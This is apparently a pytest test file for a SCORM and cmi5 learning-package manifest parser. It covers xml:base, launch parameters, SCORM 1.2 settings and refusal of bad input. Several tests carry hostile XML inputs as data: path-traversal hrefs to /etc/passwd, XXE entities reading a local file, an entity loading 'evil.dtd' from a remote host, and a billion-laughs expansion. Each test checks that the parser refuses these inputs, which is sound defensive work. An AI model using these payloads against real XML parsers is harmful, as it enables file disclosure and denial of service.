"""Manifests written here: xml:base, parameters, 1.2 run-time settings, bad input."""

from __future__ import annotations

from xml.sax.saxutils import escape

import pytest

from learning_packages.cmi5 import parse_cmi5
from learning_packages.errors import PackageRefused
from learning_packages.manifest import parse_manifest

from .builders import manifest_12, manifest_2004

RESOURCE_12 = (
    '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" href="index.html"/>'
)
ITEM_12 = '<item identifier="i1" identifierref="r1"><title>One</title></item>'


def test_xml_base_combined_from_manifest_resources_and_resource() -> None:
    xml = manifest_12(
        ITEM_12,
        '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" xml:base="unit1/"'
        ' href="page%201.html?x=1">'
        '<file href="page 1.html"/></resource>',
        base="course/",
    ).replace("<resources>", '<resources xml:base="content/">')
    course = parse_manifest(xml.encode())
    item = course.organization.items[0]
    assert item.launch_path == "course/content/unit1/page 1.html"
    assert item.launch_query == "?x=1"
    assert course.resources["r1"].files == ["course/content/unit1/page 1.html"]


def test_xml_base_without_trailing_slash_names_a_file_as_rfc3986_says() -> None:
    xml = manifest_12(
        ITEM_12,
        '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco"'
        ' xml:base="unit1/intro" href="index.html"/>',
    )
    assert parse_manifest(xml.encode()).organization.items[0].launch_path == "unit1/index.html"


def test_absolute_xml_base_makes_the_launch_external() -> None:
    xml = manifest_12(
        '<item identifier="i1" identifierref="r1" parameters="lang=en"><title>One</title></item>',
        '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco"'
        ' xml:base="https://cdn.example.org/c/" href="a.html"/>',
    )
    item = parse_manifest(xml.encode()).organization.items[0]
    assert item.launch_path is None
    assert item.launch_url == "https://cdn.example.org/c/a.html?lang=en"


@pytest.mark.parametrize(
    ("href", "parameters", "expected"),
    [
        ("a.html", "?x=1", "a.html?x=1"),
        ("a.html", "x=1", "a.html?x=1"),
        ("a.html?y=2", "?x=1", "a.html?y=2&x=1"),
        ("a.html?y=2", "&x=1", "a.html?y=2&x=1"),
        ("a.html", "#part2", "a.html#part2"),
        ("a.html#p1", "#part2", "a.html#p1"),
    ],
)
def test_item_parameters_appended_to_launch_url(href: str, parameters: str, expected: str) -> None:
    xml = manifest_12(
        '<item identifier="i1" identifierref="r1"'
        f' parameters="{escape(parameters)}"><title>One</title></item>',
        '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco"'
        f' href="{escape(href)}"/>',
    )
    assert parse_manifest(xml.encode()).organization.items[0].launch_url == expected


def test_scorm12_runtime_settings() -> None:
    xml = manifest_12(
        '<item identifier="i1" identifierref="r1"><title>One</title>'
        "<adlcp:masteryscore>75</adlcp:masteryscore>"
        "<adlcp:datafromlms>mode=exam;lang=nl</adlcp:datafromlms>"
        "<adlcp:maxtimeallowed>00:30:00</adlcp:maxtimeallowed>"
        "<adlcp:timelimitaction>exit,message</adlcp:timelimitaction>"
        '<adlcp:prerequisites type="aicc_script">i0</adlcp:prerequisites></item>',
        RESOURCE_12,
    )
    item = parse_manifest(xml.encode()).organization.items[0]
    assert item.mastery_score == 75.0
    assert item.data_from_lms == "mode=exam;lang=nl"
    assert item.max_time_allowed == "00:30:00"
    assert item.time_limit_action == "exit,message"
    assert item.prerequisites == "i0"
    assert item.scorm_type == "sco"


def test_other_organizations_are_kept() -> None:
    xml = manifest_12(
        ITEM_12,
        RESOURCE_12
        + '<resource identifier="r2" type="webcontent" adlcp:scormtype="asset" href="b.html"/>',
        default="org2",
        extra_orgs='<organization identifier="org2"><title>Short path</title>'
        '<item identifier="i2" identifierref="r2"><title>Two</title></item></organization>',
    )
    course = parse_manifest(xml.encode())
    assert [o.identifier for o in course.organizations] == ["org1", "org2"]
    assert course.organization.title == "Short path"
    assert course.title == "Short path"
    assert [i.scorm_type for i in course.launchables()] == ["asset"]


def test_sequencing_collection_is_applied_then_overridden() -> None:
    xml = manifest_2004(
        '<item identifier="i1" identifierref="r1"><title>One</title>'
        '<imsss:sequencing IDRef="shared"><imsss:controlMode'
        ' flow="false"/></imsss:sequencing></item>',
        '<resource identifier="r1" type="webcontent" adlcp:scormType="sco" href="index.html"/>',
    ).replace(
        "</manifest>",
        '<imsss:sequencingCollection><imsss:sequencing ID="shared">'
        '<imsss:controlMode choice="false" flow="true"/><imsss:limitConditions attemptLimit="3"/>'
        "</imsss:sequencing></imsss:sequencingCollection></manifest>",
    )
    seq = parse_manifest(xml.encode()).organization.items[0].sequencing
    assert seq is not None
    assert (seq.choice, seq.flow, seq.attempt_limit) == (False, False, 3)


@pytest.mark.parametrize(
    ("items", "resources", "code", "fragment"),
    [
        (
            ITEM_12 + ITEM_12.replace("One", "Again"),
            RESOURCE_12,
            "duplicate_identifier",
            "'i1' is used twice",
        ),
        (
            ITEM_12,
            RESOURCE_12 + RESOURCE_12,
            "duplicate_identifier",
            "two resources have the identifier 'r1'",
        ),
        (
            '<item identifier="i1" identifierref="nope"><title>x</title></item>',
            RESOURCE_12,
            "missing_resource",
            "points at the resource 'nope'",
        ),
        ("", RESOURCE_12, "empty_organization", "has no items"),
        (
            '<item identifier="i1"><title>x</title></item>',
            RESOURCE_12,
            "nothing_to_launch",
            "no item",
        ),
        (
            ITEM_12,
            '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco"/>',
            "missing_href",
            "has no href",
        ),
        (
            ITEM_12,
            '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco"'
            ' href="../../etc/passwd"/>',
            "path_escape",
            "points outside the package",
        ),
        (
            ITEM_12,
            '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco"'
            ' href="/etc/passwd"/>',
            "path_escape",
            "absolute path",
        ),
    ],
)
def test_bad_manifests_are_refused(items: str, resources: str, code: str, fragment: str) -> None:
    with pytest.raises(PackageRefused) as caught:
        parse_manifest(manifest_12(items, resources).encode())
    assert caught.value.code == code
    assert fragment in caught.value.reason
    assert caught.value.file == "imsmanifest.xml"


def test_unknown_schema_version_without_scorm_namespaces_is_refused() -> None:
    xml = (
        '<manifest identifier="m" xmlns="urn:example:not-ims">'
        "<metadata><schemaversion>9.9</schemaversion></metadata>"
        "<organizations/><resources/></manifest>"
    )
    with pytest.raises(PackageRefused) as caught:
        parse_manifest(xml.encode())
    assert caught.value.code == "unknown_schema"
    assert "'9.9'" in caught.value.reason


def test_unknown_schema_version_with_scorm_namespaces_is_read_with_a_warning() -> None:
    xml = manifest_12(ITEM_12, RESOURCE_12).replace(
        "<schemaversion>1.2</schemaversion>", "<schemaversion>1.2.7</schemaversion>"
    )
    course = parse_manifest(xml.encode())
    assert course.edition == "1.2"
    assert any("unknown schemaversion '1.2.7'" in w for w in course.warnings)


def test_xml_error_reports_line_and_column() -> None:
    xml = manifest_12(ITEM_12, RESOURCE_12).replace("</organization>", "</organisation>")
    with pytest.raises(PackageRefused) as caught:
        parse_manifest(xml.encode())
    assert caught.value.code == "bad_xml"
    assert caught.value.line == 7
    assert caught.value.column is not None and caught.value.column > 1
    assert "imsmanifest.xml, line 7, column" in str(caught.value)


def test_external_entity_is_refused_and_never_read(tmp_path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    xml = manifest_12(
        '<item identifier="i1" identifierref="r1"><title>&xxe;</title></item>', RESOURCE_12
    ).replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE manifest [<!ENTITY xxe SYSTEM'
        f' "file://{secret}">]>',
    )
    with pytest.raises(PackageRefused) as caught:
        parse_manifest(xml.encode())
    assert caught.value.code == "xml_entities"
    assert "TOP-SECRET" not in str(caught.value)


def test_network_entity_is_refused() -> None:
    xml = (
        '<?xml version="1.0"?><!DOCTYPE manifest [<!ENTITY % remote SYSTEM'
        ' "http://192.0.2.1/evil.dtd"> %remote;]>'
        '<manifest identifier="m"/>'
    )
    with pytest.raises(PackageRefused) as caught:
        parse_manifest(xml.encode())
    assert caught.value.code in ("xml_entities", "bad_xml")


def test_billion_laughs_is_refused_quickly() -> None:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10)
    ]
    xml = (
        f'<?xml version="1.0"?><!DOCTYPE manifest [{"".join(levels)}]>'
        '<manifest identifier="m"><metadata><schemaversion>&lol9;</schemaversion></metadata>'
        "</manifest>"
    )
    with pytest.raises(PackageRefused) as caught:
        parse_manifest(xml.encode())
    assert caught.value.code == "xml_entities"


def test_cmi5_duplicate_au_ids_are_refused() -> None:
    xml = """<courseStructure xmlns="https://w3id.org/xapi/profiles/cmi5/v1/CourseStructure.xsd">
      <course id="c"><title><langstring lang="en">C</langstring></title></course>
      <au id="a"><title><langstring>A</langstring></title><url>a.html</url></au>
      <au id="a"><title><langstring>B</langstring></title><url>b.html</url></au>
    </courseStructure>"""
    with pytest.raises(PackageRefused) as caught:
        parse_cmi5(xml.encode())
    assert caught.value.code == "duplicate_identifier"
    assert caught.value.line == 4


def test_entities_are_refused_in_utf16_too(tmp_path) -> None:
    """The quick byte scan cannot see a UTF-16 DOCTYPE; the parsed tree's check still does."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    xml = manifest_12(
        '<item identifier="i1" identifierref="r1"><title>&xxe;</title></item>', RESOURCE_12
    ).replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        f'<?xml version="1.0" encoding="UTF-16"?>\n'
        f'<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file://{secret}">]>',
    )
    with pytest.raises(PackageRefused) as caught:
        parse_manifest(xml.encode("utf-16"))
    assert caught.value.code == "xml_entities"
    assert "TOP-SECRET" not in str(caught.value)
